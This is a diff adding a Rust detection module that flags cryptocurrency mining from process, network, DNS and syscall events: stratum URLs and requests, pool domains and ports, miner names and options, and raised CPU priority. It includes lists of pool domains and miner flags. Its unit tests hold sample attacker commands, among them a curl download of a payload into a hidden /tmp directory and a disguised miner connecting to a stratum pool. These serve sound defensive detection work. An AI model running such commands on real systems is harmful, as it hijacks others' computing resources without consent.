@@ -0,0 +1,463 @@
+// cryptocurrency miners: pool connections, the stratum protocol and miner options
+
+use super::{
+    command_line_of, created_process, event_detection, image_name, image_of, syscall_detection,
+    Code, DetectionInfo, Severity,
+};
+use crate::{syscall::Syscall, syslog::SyslogEntry, sysmon::SysmonEventData};
+
+// default stratum ports of the common pools, most are also used by other services
+const POOL_PORTS: &[u16] = &[3333, 4444, 5555, 7777, 9999, 14433, 14444, 45560, 45700];
+
+const POOL_DOMAINS: &[&str] = &[
+    "2miners",
+    "c3pool",
+    "f2pool",
+    "hashvault",
+    "herominers",
+    "minergate",
+    "minexmr",
+    "moneroocean",
+    "nanopool",
+    "nicehash",
+    "supportxmr",
+    "xmrpool",
+];
+
+const MINER_NAMES: &[&str] = &["xmrig", "xmr-stak", "minerd", "cpuminer", "ccminer"];
+
+// options of xmrig and cpuminer that other programs rarely have
+const MINER_OPTIONS: &[&str] = &[
+    "--donate-level",
+    "--coin",
+    "--algo",
+    "--randomx",
+    "--nicehash",
+    "--rig-id",
+    "rx/0",
+    "cryptonight",
+];
+
+// options that make the miner take every core regardless of the configured limit
+const CPU_OPTIONS: &[&str] = &[
+    "--cpu-max-threads-hint",
+    "--max-cpu-usage",
+    "--cpu-priority",
+    "--cpu-no-yield",
+];
+
+// stratum requests of pool logins and job subscriptions
+const STRATUM_METHODS: &[&str] = &[
+    "mining.subscribe",
+    "mining.authorize",
+    "\"method\":\"login\"",
+];
+
+pub fn stratum(e: &SyslogEntry) -> Option<DetectionInfo> {
+    let p = created_process(e)?;
+    let url = command_line_of(p)
+        .split_whitespace()
+        .find(|a| a.contains("stratum+") || a.contains("stratum2+"))?;
+
+    return Some(event_detection(
+        e,
+        &format!("Connected to a stratum server {}", url),
+        Code::Stratum,
+        command_line_of(p),
+        Severity::High,
+        30,
+        &["T1496"],
+    ));
+}
+
+pub fn stratum_syscall(s: &Syscall) -> Option<DetectionInfo> {
+    if !["write", "send", "sendto", "sendmsg"].contains(&s.name.as_str()) {
+        return None;
+    }
+
+    // strace escapes the quotes of the JSON payload
+    let payload = s.field("arg1")?.replace('\\', "");
+    let method = STRATUM_METHODS.iter().find(|m| payload.contains(*m))?;
+
+    return Some(syscall_detection(
+        s,
+        &format!("Sent a stratum request ({})", method),
+        Code::Stratum,
+        Severity::High,
+        30,
+        &["T1496"],
+    ));
+}
+
+fn is_pool_domain(hostname: &str) -> bool {
+    return POOL_DOMAINS.iter().any(|d| hostname.contains(d));
+}
+
+pub fn mining_pool(e: &SyslogEntry) -> Option<DetectionInfo> {
+    if let SysmonEventData::NetworkConnect(n) = &e.sysmon_event.data {
+        let hostname = n.destination_hostname.as_deref().unwrap_or("-");
+
+        if !is_pool_domain(hostname) {
+            return None;
+        }
+
+        let destination = format!("{}:{}", n.destination_ip, n.destination_port);
+
+        return Some(event_detection(
+            e,
+            &format!("Connected to a mining pool {} ({})", destination, hostname),
+            Code::MiningPool(destination.clone()),
+            &destination,
+            Severity::Medium,
+            20,
+            &["T1496"],
+        ));
+    }
+
+    return None;
+}
+
+// a connection to a pool port is only reported once the target also spoke stratum or looked up a
+// pool, on its own it may be any other service on that port
+#[derive(Debug, Default)]
+pub struct PoolTracker {
+    connection: Option<DetectionInfo>, // the first one to a pool port
+    confirmed: bool,
+}
+
+impl PoolTracker {
+    pub fn new() -> Self {
+        return Self::default();
+    }
+
+    pub fn add_event(&mut self, e: &SyslogEntry) {
+        match &e.sysmon_event.data {
+            SysmonEventData::NetworkConnect(n) => {
+                let hostname = n.destination_hostname.as_deref().unwrap_or("-");
+
+                // reported by mining_pool
+                if is_pool_domain(hostname) {
+                    self.confirmed = true;
+                } else if POOL_PORTS.contains(&n.destination_port) && self.connection.is_none() {
+                    let destination = format!("{}:{}", n.destination_ip, n.destination_port);
+
+                    self.connection = Some(event_detection(
+                        e,
+                        &format!("Connected to a mining pool {}", destination),
+                        Code::MiningPool(destination.clone()),
+                        &destination,
+                        Severity::Medium,
+                        20,
+                        &["T1496"],
+                    ));
+                }
+            }
+            SysmonEventData::DnsQuery(d) => self.confirmed |= is_pool_domain(&d.query_name),
+            _ => self.confirmed |= stratum(e).is_some(),
+        }
+    }
+
+    pub fn add_syscall(&mut self, s: &Syscall) {
+        if let Some((ip, port)) = s.destination() {
+            if POOL_PORTS.contains(&port) && self.connection.is_none() {
+                let destination = format!("{}:{}", ip, port);
+
+                self.connection = Some(syscall_detection(
+                    s,
+                    &format!("Connected to a mining pool {}", destination),
+                    Code::MiningPool(destination),
+                    Severity::Medium,
+                    20,
+                    &["T1496"],
+                ));
+            }
+        }
+
+        self.confirmed |= stratum_syscall(s).is_some();
+    }
+
+    pub fn finish(self) -> Option<DetectionInfo> {
+        return self.connection.filter(|_| self.confirmed);
+    }
+}
+
+pub fn miner_command_line(e: &SyslogEntry) -> Option<DetectionInfo> {
+    let p = created_process(e)?;
+    let name = image_name(image_of(p));
+    let args: Vec<&str> = command_line_of(p).split_whitespace().skip(1).collect();
+
+    if !MINER_NAMES.iter().any(|m| name.contains(m))
+        && !args
+            .iter()
+            .any(|a| MINER_OPTIONS.iter().any(|o| a.starts_with(o)))
+    {
+        return None;
+    }
+
+    return Some(event_detection(
+        e,
+        &format!(
+            "Created miner process (Command Line: {})",
+            command_line_of(p)
+        ),
+        Code::Miner(command_line_of(p).to_string()),
+        command_line_of(p),
+        Severity::High,
+        30,
+        &["T1496"],
+    ));
+}
+
+// niceness given to nice or renice, e.g. "-n -20", "--adjustment=-20" or the older "--20"
+fn niceness(name: &str, args: &[&str]) -> Option<i32> {
+    for (i, arg) in args.iter().enumerate() {
+        let value = match *arg {
+            "-n" | "--adjustment" | "--priority" => args.get(i + 1).copied(),
+            _ => match arg.strip_prefix("--adjustment=") {
+                Some(value) => Some(value),
+                None if arg.starts_with("-n") => Some(&arg[2..]),
+                // nice -5 is an adjustment of 5, renice -5 a priority of -5
+                None if name == "nice" => arg.strip_prefix('-'),
+                None => Some(*arg),
+            },
+        };
+
+        if let Some(niceness) = value.and_then(|v| v.parse().ok()) {
+            return Some(niceness);
+        }
+    }
+
+    return None;
+}
+
+pub fn cpu_limit(e: &SyslogEntry) -> Option<DetectionInfo> {
+    let p = created_process(e)?;
+    let name = image_name(image_of(p));
+    let args: Vec<&str> = command_line_of(p).split_whitespace().skip(1).collect();
+
+    // a negative niceness puts the process ahead of everything else
+    let raised_priority =
+        (name == "nice" || name == "renice") && niceness(name, &args).is_some_and(|n| n < 0);
+
+    if !raised_priority
+        && !args
+            .iter()
+            .any(|a| CPU_OPTIONS.iter().any(|o| a.starts_with(o)))
+    {
+        return None;
+    }
+
+    return Some(event_detection(
+        e,
+        &format!(
+            "Ignored the CPU limit (Command Line: {})",
+            command_line_of(p)
+        ),
+        Code::CpuLimit,
+        command_line_of(p),
+        Severity::Low,
+        10,
+        &["T1496"],
+    ));
+}
+
+pub fn cpu_limit_syscall(s: &Syscall) -> Option<DetectionInfo> {
+    if s.name != "setpriority" || s.error.is_some() {
+        return None;
+    }
+
+    let niceness: i32 = s.field("arg2")?.parse().ok()?;
+
+    if niceness >= 0 {
+        return None;
+    }
+
+    return Some(syscall_detection(
+        s,
+        &format!("Raised its priority to niceness {}", niceness),
+        Code::CpuLimit,
+        Severity::Low,
+        10,
+        &["T1496"],
+    ));
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{
+        rule::tests::{process_create_entry, syscall, sysmon_entry},
+        sysmon::SysmonEventId,
+    };
+
+    const POOL_CONNECT: &str = "4321  1691668812.140000 connect(3, {sa_family=AF_INET, sin_port=htons(4444), sin_addr=inet_addr(\"198.51.100.7\")}, 16) = 0";
+    const STRATUM_LOGIN: &str = "4321  1691668812.141000 write(3, \"{\\\"id\\\":1,\\\"jsonrpc\\\":\\\"2.0\\\",\\\"method\\\":\\\"login\\\",\\\"params\\\":{\\\"login\\\":\\\"44AFFq5kSiGBoZ\\\",\\\"pass\\\":\\\"x\\\",\\\"agent\\\":\\\"XMRig/6.20.0\\\"}}\\n\", 120) = 120";
+
+    fn network_connect(hostname: &str, port: &str) -> SyslogEntry {
+        return sysmon_entry(
+            SysmonEventId::NETWORK_CONNECT,
+            &[
+                ("RuleName", "-"),
+                ("UtcTime", "2023-08-10 12:00:12.000"),
+                ("ProcessGuid", "{5bd6ab47-0003-64d4-0000-000000000000}"),
+                ("ProcessId", "101"),
+                ("Image", "/root/target.bin"),
+                ("User", "root"),
+                ("Protocol", "tcp"),
+                ("Initiated", "true"),
+                ("SourceIsIpv6", "false"),
+                ("SourceIp", "10.0.3.100"),
+                ("SourceHostname", "-"),
+                ("SourcePort", "45678"),
+                ("SourcePortName", "-"),
+                ("DestinationIsIpv6", "false"),
+                ("DestinationIp", "198.51.100.7"),
+                ("DestinationHostname", hostname),
+                ("DestinationPort", port),
+                ("DestinationPortName", "-"),
+            ],
+        );
+    }
+
+    fn dns_query(query_name: &str) -> SyslogEntry {
+        return sysmon_entry(
+            SysmonEventId::DNS_QUERY,
+            &[
+                ("RuleName", "-"),
+                ("UtcTime", "2023-08-10 12:00:11.000"),
+                ("ProcessGuid", "{5bd6ab47-0003-64d4-0000-000000000000}"),
+                ("ProcessId", "101"),
+                ("QueryName", query_name),
+                ("QueryStatus", "0"),
+                ("QueryResults", "::ffff:198.51.100.7;"),
+                ("Image", "/root/target.bin"),
+                ("User", "root"),
+            ],
+        );
+    }
+
+    #[test]
+    fn pool_port_alone_is_not_a_pool() {
+        let mut tracker = PoolTracker::new();
+        tracker.add_syscall(&syscall(POOL_CONNECT));
+        tracker.add_event(&network_connect("-", "9999"));
+        tracker.add_event(&dns_query("updates.example.com"));
+
+        assert!(tracker.finish().is_none());
+        assert!(mining_pool(&network_connect("-", "4444")).is_none());
+    }
+
+    #[test]
+    fn pool_port_with_stratum_login() {
+        let mut tracker = PoolTracker::new();
+        tracker.add_syscall(&syscall(POOL_CONNECT));
+        tracker.add_syscall(&syscall(STRATUM_LOGIN));
+        let info = tracker.finish().unwrap();
+
+        assert_eq!(info.code, Code::MiningPool("198.51.100.7:4444".to_string()));
+        assert_eq!(info.event_id, None);
+        assert!(info.evidence.contains("sin_port=htons(4444)"));
+    }
+
+    #[test]
+    fn pool_port_with_stratum_url_or_pool_lookup() {
+        let mut tracker = PoolTracker::new();
+        tracker.add_event(&network_connect("-", "5555"));
+        tracker.add_event(&process_create_entry(
+            "/tmp/.x/kworker",
+            "/tmp/.x/kworker -o stratum+tcp://198.51.100.7:5555 -u 44AFFq5kSiGBoZ",
+        ));
+        let info = tracker.finish().unwrap();
+
+        assert_eq!(info.event_id, Some(SysmonEventId::NETWORK_CONNECT));
+        assert_eq!(info.code, Code::MiningPool("198.51.100.7:5555".to_string()));
+
+        let mut tracker = PoolTracker::new();
+        tracker.add_event(&dns_query("pool.supportxmr.com"));
+        tracker.add_syscall(&syscall(POOL_CONNECT));
+
+        assert!(tracker.finish().is_some());
+    }
+
+    #[test]
+    fn pool_domain() {
+        let e = network_connect("pool.supportxmr.com", "443");
+        let info = mining_pool(&e).unwrap();
+
+        assert_eq!(info.code, Code::MiningPool("198.51.100.7:443".to_string()));
+        assert!(info.reason_for_detection.contains("pool.supportxmr.com"));
+
+        // already reported, the tracker does not report it again
+        let mut tracker = PoolTracker::new();
+        tracker.add_event(&network_connect("pool.supportxmr.com", "3333"));
+
+        assert!(tracker.finish().is_none());
+    }
+
+    #[test]
+    fn stratum_requests() {
+        assert!(stratum_syscall(&syscall(STRATUM_LOGIN)).is_some());
+        assert!(stratum_syscall(&syscall(
+            "4321  1691668812.142000 sendto(3, \"{\\\"id\\\": 1, \\\"method\\\": \\\"mining.subscribe\\\", \\\"params\\\": []}\\n\", 52, 0, NULL, 0) = 52"
+        ))
+        .is_some());
+        assert!(stratum_syscall(&syscall(
+            "4321  1691668812.143000 write(1, \"login: \", 7) = 7"
+        ))
+        .is_none());
+
+        let e = process_create_entry(
+            "/tmp/.x/kworker",
+            "/tmp/.x/kworker -o stratum+tcp://198.51.100.7:5555",
+        );
+        assert_eq!(stratum(&e).unwrap().code, Code::Stratum);
+    }
+
+    #[test]
+    fn miner_command_lines() {
+        let xmrig = process_create_entry("/tmp/.x/xmrig", "/tmp/.x/xmrig -c config.json");
+        let renamed = process_create_entry(
+            "/tmp/.x/kworker",
+            "/tmp/.x/kworker --donate-level=1 -a rx/0 --cpu-max-threads-hint=100",
+        );
+        let other = process_create_entry(
+            "/usr/bin/curl",
+            "curl -o /tmp/.x/kworker http://198.51.100.7/k",
+        );
+
+        assert!(miner_command_line(&xmrig).is_some());
+        assert!(miner_command_line(&renamed).is_some());
+        assert!(miner_command_line(&other).is_none());
+        assert_eq!(cpu_limit(&renamed).unwrap().code, Code::CpuLimit);
+        assert!(cpu_limit(&xmrig).is_none());
+    }
+
+    #[test]
+    fn raised_priority() {
+        assert_eq!(niceness("nice", &["-n", "-20", "./kworker"]), Some(-20));
+        assert_eq!(
+            niceness("nice", &["--adjustment=-5", "./kworker"]),
+            Some(-5)
+        );
+        assert_eq!(niceness("nice", &["-5", "./kworker"]), Some(5));
+        assert_eq!(niceness("nice", &["--20", "./kworker"]), Some(-20));
+        assert_eq!(niceness("renice", &["-5", "-p", "101"]), Some(-5));
+        assert_eq!(niceness("nice", &["./kworker"]), None);
+
+        assert!(cpu_limit(&process_create_entry(
+            "/usr/bin/nice",
+            "nice -n -20 ./kworker"
+        ))
+        .is_some());
+        assert!(cpu_limit(&process_create_entry(
+            "/usr/bin/nice",
+            "nice -n 10 ./kworker"
+        ))
+        .is_none());
+
+        let s = syscall("4321  1691668812.150000 setpriority(PRIO_PROCESS, 0, -20) = 0");
+        assert!(cpu_limit_syscall(&s).is_some());
+        let s = syscall("4321  1691668812.150000 setpriority(PRIO_PROCESS, 0, 19) = 0");
+        assert!(cpu_limit_syscall(&s).is_none());
+    }
+}